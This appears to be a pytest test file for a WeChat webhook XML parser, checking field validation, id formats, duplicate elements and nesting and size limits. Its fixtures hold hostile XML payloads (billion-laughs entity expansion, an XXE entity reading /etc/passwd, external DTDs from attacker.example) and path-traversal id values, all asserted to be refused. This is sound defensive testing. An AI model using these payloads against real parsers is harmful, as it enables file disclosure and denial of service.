import pytest

from adapters.wechat.xml import (MAX_DEPTH, MAX_ELEMENTS, MalformedXml, build_xml, parse_encrypted_envelope,
                                 parse_inbound)
from simulators.wechat_push import event, message, text_message
from tests.wechat.samples import DEMO_XML as TEXT


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><CreateTime>1</CreateTime>
<MsgType>text</MsgType><Content>&lol3;</Content></xml>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><CreateTime>1</CreateTime>
<MsgType>text</MsgType><Content>&xxe;</Content></xml>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<xml/>"""

BARE_DOCTYPE = b"""<!DOCTYPE xml><xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName>
<CreateTime>1</CreateTime><MsgType>text</MsgType></xml>"""

EXTERNAL_DTD = b"""<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd"><xml/>"""


def test_malformed_xml_is_a_value_error():
    assert issubclass(MalformedXml, ValueError)


def test_parses_wechat_sample_text_message():
    msg = parse_inbound(TEXT)
    assert msg.to_user == "gh_10f6c3c3ac5a"
    assert msg.from_user == "oyORnuP8q7ou2gfYjqLzSIWZf0rs"
    assert msg.create_time == 1409735668
    assert msg.msg_type == "text"
    assert msg.msg_id == "6054768590064713728"
    assert msg.content == "abcdteT"
    assert msg.event is None
    assert msg.fields["Content"] == "abcdteT"
    assert msg.dedup_key == "msg:6054768590064713728"


@pytest.mark.parametrize("hostile", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY, BARE_DOCTYPE, EXTERNAL_DTD])
def test_dtds_and_entities_are_refused(hostile):
    with pytest.raises(MalformedXml):
        parse_inbound(hostile)
    with pytest.raises(MalformedXml):
        parse_encrypted_envelope(hostile)


@pytest.mark.parametrize("missing", ["ToUserName", "FromUserName", "CreateTime", "MsgType"])
def test_each_missing_common_field_is_named(missing):
    fields = {"ToUserName": "gh_1", "FromUserName": "o1", "CreateTime": 1, "MsgType": "text", "Content": "x"}
    del fields[missing]
    with pytest.raises(MalformedXml, match=missing):
        parse_inbound(build_xml(fields))


def test_empty_common_field_counts_as_missing():
    with pytest.raises(MalformedXml, match="FromUserName"):
        parse_inbound(build_xml({"ToUserName": "gh_1", "FromUserName": " ", "CreateTime": 1, "MsgType": "text"}))


@pytest.mark.parametrize("value", ["soon", "-5", "1.5", "١٢٣", "9" * 13])
def test_create_time_must_be_whole_seconds(value):
    with pytest.raises(MalformedXml, match="CreateTime"):
        parse_inbound(build_xml({"ToUserName": "gh_1", "FromUserName": "o", "CreateTime": value, "MsgType": "text"}))


def _text(**changes: object) -> bytes:
    return build_xml({"ToUserName": "gh_10f6c3c3ac5a", "FromUserName": "oyORnuP8q7ou2gfYjqLzSIWZf0rs",
                      "CreateTime": 1409735668, "MsgType": "text", "Content": "abcdteT",
                      "MsgId": 6054768590064713728, **changes})


# Ids WeChat does not issue. They would become storage ids and partition keys (Cosmos DB refuses
# / \ ? # in an id: a 500), so they are refused as the push is read: a 400.
NOT_IDS = [
    ("FromUserName", "o/../threads"), ("FromUserName", "o\\x"), ("FromUserName", "o?x=1"), ("FromUserName", "o#x"),
    ("FromUserName", "o:x"), ("FromUserName", "o x"), ("FromUserName", "o.x"), ("FromUserName", "o%2Fx"),
    ("FromUserName", "o用户"), ("FromUserName", "ｏ１"), ("FromUserName", "o" * 65),
    ("ToUserName", "toUser"), ("ToUserName", "gh_"), ("ToUserName", "gh_0123/4567"), ("ToUserName", "gh_ab cd"),
    ("ToUserName", "wx5a1b2c3d4e5f6a7b"), ("ToUserName", "gh_" + "a" * 41),
    ("MsgId", "msg-1"), ("MsgId", "-1"), ("MsgId", "1.5"), ("MsgId", "0x10"), ("MsgId", "1e5"), ("MsgId", "١٢٣"),
    ("MsgId", "1/2"), ("MsgId", str(2**64)), ("MsgId", "1" * 21),
    ("Event", "sub/scribe"), ("Event", "a b"), ("Event", "订阅"),
]


@pytest.mark.parametrize("name, value", NOT_IDS)
def test_an_id_wechat_would_not_issue_is_refused(name, value):
    changes = {name: value, "MsgType": "event"} if name == "Event" else {name: value}
    with pytest.raises(MalformedXml, match=f"^{name} is not ") as refused:
        parse_inbound(_text(**changes))
    if name == "FromUserName":
        assert value not in str(refused.value)  # logged by the webhook: no openid in logs


@pytest.mark.parametrize("name, value, read", [
    ("FromUserName", "oyORnuP8q7ou2gfYjqLzSIWZf0rs", lambda m: m.from_user),
    ("FromUserName", "otFpruAK8D-E6EfStSYonYSBZ8igAAA", lambda m: m.from_user),  # 31, in WeChat's docs
    ("FromUserName", "o_" + "x" * 62, lambda m: m.from_user),
    ("ToUserName", "gh_e136c6e50636", lambda m: m.to_user),
    ("MsgId", str(2**64 - 1), lambda m: m.msg_id),
    ("MsgId", "1", lambda m: m.msg_id),
    ("Event", "TEMPLATESENDJOBFINISH", lambda m: m.event),
    ("Event", "subscribe_msg_popup_event", lambda m: m.event),
])
def test_ids_of_wechat_s_forms_are_read(name, value, read):
    # The rule's other side: what WeChat issues, at the edges of its forms, is taken as it is.
    changes = {name: value, "MsgType": "event"} if name == "Event" else {name: value}
    assert read(parse_inbound(_text(**changes))) == value
    assert read(parse_inbound(_text(**{**changes, name: f"  {value}\n"}))) == value  # WeChat's demo has spaces


@pytest.mark.parametrize("body", [b"", b"   ", b"not xml", b"<xml>", b"<root><a>1</a></root>", b"\xff\xfe<x"])
def test_garbage_is_malformed(body):
    with pytest.raises(MalformedXml):
        parse_inbound(body)


def test_wrong_root_is_named():
    with pytest.raises(MalformedXml, match="<xml>"):
        parse_inbound(b"<message><ToUserName>a</ToUserName></message>")


@pytest.mark.parametrize("again", [
    b"<FromUserName>oSomeoneElse000000000000000</FromUserName>",
    b"<Content>something else</Content>",
    b"<MsgId>6054768590064713729</MsgId>",
])
def test_a_top_level_element_given_twice_is_refused(again):
    # Which one is the push's? An attacker's trick, never WeChat's: 400, however it is nested below.
    name = again[1:again.index(b">")].decode()
    with pytest.raises(MalformedXml, match=f"element {name} appears twice"):
        parse_inbound(TEXT.replace(b"</xml>", again + b"</xml>"))


def test_a_block_given_twice_at_the_top_is_refused():
    block = b"<ScanCodeInfo><ScanType>qrcode</ScanType></ScanCodeInfo>"
    with pytest.raises(MalformedXml, match="element ScanCodeInfo appears twice"):
        parse_inbound(TEXT.replace(b"</xml>", block * 2 + b"</xml>"))


def _pictures(*md5s: str) -> bytes:
    """A pic_weixin menu event as WeChat's docs show it: one <item> per picture."""
    items = "".join(f"<item><PicMd5Sum><![CDATA[{md5}]]></PicMd5Sum></item>" for md5 in md5s)
    block = f"<SendPicsInfo><Count>{len(md5s)}</Count><PicList>{items}</PicList></SendPicsInfo>"
    return event("oMgHVjngRipVsoxg6TuX3vz6glDg", "pic_weixin", create_time=1408090651, event_key="6",
                 to_user="gh_e136c6e50636").replace(b"</xml>", block.encode() + b"</xml>")


def _block(fields: dict[str, str], name: str) -> dict[str, str]:
    return {key: value for key, value in fields.items() if key.startswith(name)}


def test_elements_repeated_inside_a_block_are_numbered_from_one():
    msg = parse_inbound(_pictures("1b5f7c23b5bf75682a53e7b6d163e185", "5a75aaca956d97be686719218f275c6b"))
    assert _block(msg.fields, "SendPicsInfo") == {
        "SendPicsInfo": "", "SendPicsInfo.Count": "2", "SendPicsInfo.PicList": "",
        "SendPicsInfo.PicList.item[1]": "",
        "SendPicsInfo.PicList.item[1].PicMd5Sum": "1b5f7c23b5bf75682a53e7b6d163e185",
        "SendPicsInfo.PicList.item[2]": "",
        "SendPicsInfo.PicList.item[2].PicMd5Sum": "5a75aaca956d97be686719218f275c6b",
    }
    assert msg.event == "pic_weixin" and msg.event_key == "6"


def test_an_element_alone_in_its_block_has_no_number():
    msg = parse_inbound(_pictures("1b5f7c23b5bf75682a53e7b6d163e185"))
    assert _block(msg.fields, "SendPicsInfo.PicList.") == {
        "SendPicsInfo.PicList.item": "", "SendPicsInfo.PicList.item.PicMd5Sum": "1b5f7c23b5bf75682a53e7b6d163e185"}


def test_a_subscription_notice_keeps_every_template_the_guest_answered():
    # subscribe_msg_popup_event, from WeChat's docs ("订阅通知"): one <List> per template, straight
    # in the block, and an openid of 31 characters.
    xml = (b"<xml><ToUserName><![CDATA[gh_123456789abc]]></ToUserName>"
           b"<FromUserName><![CDATA[otFpruAK8D-E6EfStSYonYSBZ8igAAA]]></FromUserName>"
           b"<CreateTime>1610969440</CreateTime><MsgType><![CDATA[event]]></MsgType>"
           b"<Event><![CDATA[subscribe_msg_popup_event]]></Event><SubscribeMsgPopupEvent>"
           b"<List><TemplateId><![CDATA[VRR0UEO9VJOLs0MHlU0OilqX6MVFDwH3_3gz3Oc0NIc]]></TemplateId>"
           b"<SubscribeStatusString><![CDATA[accept]]></SubscribeStatusString><PopupScene>2</PopupScene></List>"
           b"<List><TemplateId><![CDATA[9nLIlbOQZC5Y89AZteFEux3WCXRRRG5Wfzkpssu4bLI]]></TemplateId>"
           b"<SubscribeStatusString><![CDATA[reject]]></SubscribeStatusString><PopupScene>2</PopupScene></List>"
           b"</SubscribeMsgPopupEvent></xml>")
    msg = parse_inbound(xml)
    assert msg.from_user == "otFpruAK8D-E6EfStSYonYSBZ8igAAA"
    assert [msg.fields[f"SubscribeMsgPopupEvent.List[{n}].SubscribeStatusString"] for n in (1, 2)] == [
        "accept", "reject"]
    assert msg.fields["SubscribeMsgPopupEvent.List[2].TemplateId"] == "9nLIlbOQZC5Y89AZteFEux3WCXRRRG5Wfzkpssu4bLI"


def test_unknown_message_type_is_accepted_with_all_fields():
    msg = parse_inbound(message("o1", "hologram", create_time=5, msg_id=42, Depth="3", Colour="blue"))
    assert msg.msg_type == "hologram"
    assert msg.msg_id == "42"
    assert msg.fields["Depth"] == "3" and msg.fields["Colour"] == "blue"


def test_chinese_text_and_cdata_edge_cases_survive():
    content = "你好，世界 ]]> <b>&amp; 'quoted' \"double\" \n second line  "
    msg = parse_inbound(text_message("o1", content, create_time=1700000000, msg_id=1))
    assert msg.content == content  # verbatim, spaces and all


def test_whitespace_around_cdata_in_structural_fields_is_ignored():
    # WeChat's own demo has "<MsgType>  <![CDATA[video]]></MsgType>".
    xml = (b"<xml><ToUserName><![CDATA[gh_1]]></ToUserName><FromUserName><![CDATA[o]]></FromUserName>"
           b"<CreateTime> 12 </CreateTime><MsgType>  <![CDATA[video]]></MsgType></xml>")
    msg = parse_inbound(xml)
    assert msg.msg_type == "video" and msg.create_time == 12


def test_events():
    msg = parse_inbound(event("o1", "subscribe", create_time=7, event_key="qrscene_emp_42", ticket="gQabc"))
    assert msg.msg_type == "event"
    assert msg.event == "subscribe"
    assert msg.event_key == "qrscene_emp_42"
    assert msg.msg_id is None
    assert msg.fields["Ticket"] == "gQabc"
    assert msg.dedup_key == "evt:o1:7:subscribe"


def test_nested_event_blocks_are_flattened():
    xml = event("o1", "scancode_waitmsg", create_time=7, event_key="k",
                ScanCodeInfo={"ScanType": "qrcode", "ScanResult": "https://example.com"})
    msg = parse_inbound(xml)
    assert msg.fields["ScanCodeInfo.ScanResult"] == "https://example.com"
    assert msg.fields["ScanCodeInfo"] == ""


def test_event_field_only_for_events():
    msg = parse_inbound(build_xml({"ToUserName": "gh_1", "FromUserName": "o", "CreateTime": 1, "MsgType": "text",
                                   "Event": "subscribe"}))
    assert msg.event is None


def test_encrypted_envelope():
    body = b"<xml><ToUserName><![CDATA[gh_1]]></ToUserName><Encrypt><![CDATA[abc+/=]]></Encrypt></xml>"
    assert parse_encrypted_envelope(body) == "abc+/="


@pytest.mark.parametrize("body", [
    b"<xml><ToUserName>gh</ToUserName></xml>",
    b"<xml><Encrypt></Encrypt></xml>",
    b"<xml><Encrypt>a</Encrypt><Encrypt>b</Encrypt></xml>",
    b"<other><Encrypt>a</Encrypt></other>",
    b"",
])
def test_bad_envelopes(body):
    with pytest.raises(MalformedXml):
        parse_encrypted_envelope(body)


def test_build_xml_refuses_what_xml_cannot_carry():
    with pytest.raises(ValueError):
        build_xml({"bad name": "x"})
    with pytest.raises(ValueError):
        build_xml({"Content": "nul \x00 byte"})
    with pytest.raises(ValueError):
        build_xml({"A": True})


def test_build_xml_numbers_are_bare_strings_are_cdata():
    assert build_xml({"CreateTime": 12, "MsgType": "text"}) == (
        b"<xml><CreateTime>12</CreateTime><MsgType><![CDATA[text]]></MsgType></xml>")


def _nested(depth: int) -> bytes:
    """A text message with a block nested `depth` levels below <xml> (the root is level 1)."""
    return TEXT.replace(b"</xml>", b"<B>" * (depth - 1) + b"x" + b"</B>" * (depth - 1) + b"</xml>")


def test_a_push_as_deep_as_the_limit_parses():
    msg = parse_inbound(_nested(MAX_DEPTH))
    assert msg.fields["B" + ".B" * (MAX_DEPTH - 2)] == "x"


@pytest.mark.parametrize("depth", [MAX_DEPTH + 1, 1000, 100_000])
def test_deeper_nesting_is_refused_however_deep(depth):
    with pytest.raises(MalformedXml, match=f"nested deeper than {MAX_DEPTH} levels"):
        parse_inbound(_nested(depth))
    with pytest.raises(MalformedXml, match="nested deeper"):
        parse_encrypted_envelope(b"<xml><Encrypt>e</Encrypt>" + b"<a>" * depth + b"</a>" * depth + b"</xml>")


@pytest.mark.parametrize("count", [MAX_ELEMENTS, 100_000])
def test_more_elements_than_any_push_are_refused(count):
    many = b"".join(b"<E%d/>" % i for i in range(count))
    with pytest.raises(MalformedXml, match=f"more than {MAX_ELEMENTS} elements"):
        parse_inbound(TEXT.replace(b"</xml>", many + b"</xml>"))
    with pytest.raises(MalformedXml, match="elements"):
        parse_encrypted_envelope(b"<xml><Encrypt>e</Encrypt>" + many + b"</xml>")
